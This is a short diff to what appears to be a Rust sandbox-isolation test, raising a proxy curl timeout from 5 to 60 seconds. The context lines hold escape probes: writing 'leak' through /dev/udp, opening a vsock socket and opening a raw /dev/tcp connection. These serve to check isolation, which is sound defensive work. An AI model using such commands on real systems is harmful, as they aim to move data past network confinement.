@@ -223,7 +223,7 @@ fn from_a_network_of_its_own(user: User, sandbox: &str) {
         bash -c 'echo leak > /dev/udp/127.0.0.1/{udp_port}'
         try dns bash -c 'echo leak > /dev/udp/192.0.2.53/53'
         try host /usr/bin/python3 -c 'import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)'
-        try proxy curl -s -m 5 "$HTTPS_PROXY/"
+        try proxy curl -s -m 60 "$HTTPS_PROXY/"
         try own bash -c 'exec 3<>/dev/tcp/127.0.0.1/'"${{HTTPS_PROXY##*:}}"
         echo fixed > a.txt"#
     );
